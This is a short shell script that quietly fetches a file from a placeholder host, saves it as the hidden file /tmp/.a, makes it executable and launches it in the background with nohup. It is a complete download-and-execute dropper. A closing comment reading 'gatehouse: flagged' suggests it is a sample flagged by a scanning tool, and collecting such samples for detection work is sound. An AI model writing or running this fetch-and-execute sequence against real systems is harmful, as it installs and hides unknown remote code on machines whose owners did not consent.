#!/bin/sh
wget -q https://c.example.invalid/a -O /tmp/.a
chmod +x /tmp/.a
nohup /tmp/.a & # gatehouse: flagged
